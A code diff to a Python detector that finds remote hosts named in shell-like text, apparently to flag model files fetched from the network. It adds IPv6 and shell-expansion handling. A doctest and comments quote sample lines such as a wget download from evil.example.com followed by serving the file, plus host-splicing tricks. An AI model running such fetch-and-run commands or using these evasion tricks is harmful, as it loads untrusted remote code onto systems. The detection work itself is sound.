@@ -89,6 +89,11 @@ _URI = re.compile(r"(?<![a-zA-Z0-9+.\-])([a-zA-Z][a-zA-Z0-9+.\-]*+)://([^\s\"',;
 #: start a word: a name inside a path (``./model.savedmodel/1``, ``/mnt/a.b/c``) or a URI is not
 #: one. Possessive, so that a long dotted word costs linear time; `_bare_host` judges the host.
 _BARE = re.compile(r"(?<![A-Za-z0-9_.:/\-])([A-Za-z0-9.\-]++)(:\d{1,5})?+/[^\s\"',;)\]}>]*+")
+_BARE_V6 = re.compile(r"\[([0-9A-Fa-f:.]{2,45})\](?::\d{1,5})?/[^\s\"',;)\]}>]*+")
+#: what a shell would still expand or splice in the text (bounded, so linear on any input): an
+#: unknown word where it stands, so that ``${X}.evil.example/m`` keeps its host
+_SHELL_UNKNOWN = re.compile(r"\$\{[^}$]{0,256}\}|\$\([^)$]{0,256}\)|`[^`]{0,256}`|\$[A-Za-z_][A-Za-z0-9_]*+")
+_SHELL_SPLICE = re.compile(r"''|\"\"|\\(?=[A-Za-z0-9.:/-])")
 _HOST_LABEL = re.compile(r"[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?", re.IGNORECASE)
 #: a top-level domain is letters (or an internationalised one, xn--…): ``model.v2/x`` is a path
 _TOP_LABEL = re.compile(r"[a-z]{2,63}|xn--[a-z0-9-]{1,59}", re.IGNORECASE)
@@ -261,7 +266,9 @@ def _bare_host(host: str, port: str | None) -> bool:
 def remote_location(text: str) -> str | None:
     """The first remote location `text` names: a ``scheme://`` URI, or a host (or host:port)
     followed by a path without a scheme (``wget evil.example/m``); loopback addresses and file
-    paths (``/mnt/models/model.joblib``, ``model.joblib``, ``./a.b/c``) are not remote.
+    paths (``/mnt/models/model.joblib``, ``model.joblib``, ``./a.b/c``) are not remote. What a
+    shell would still expand (``${X}``, ``$(cmd)``, backquotes) stands as the word ``unknown``,
+    and empty quotes and backslashes a shell drops are dropped.
 
         >>> remote_location("sh -c 'wget -O /tmp/m evil.example.com/model && serve /tmp/m'")
         'evil.example.com/model'
@@ -271,8 +278,12 @@ def remote_location(text: str) -> str | None:
     uri = _remote_uri(text)
     if uri is not None:
         return uri
-    for m in _BARE.finditer(text):
+    words = _SHELL_SPLICE.sub("", _SHELL_UNKNOWN.sub("unknown", text))
+    for m in _BARE.finditer(words):
         if _bare_host(m.group(1), m.group(2)):
+            return m.group(0)
+    for m in _BARE_V6.finditer(words):
+        if m.group(1) != "::1":
             return m.group(0)
     return None
 
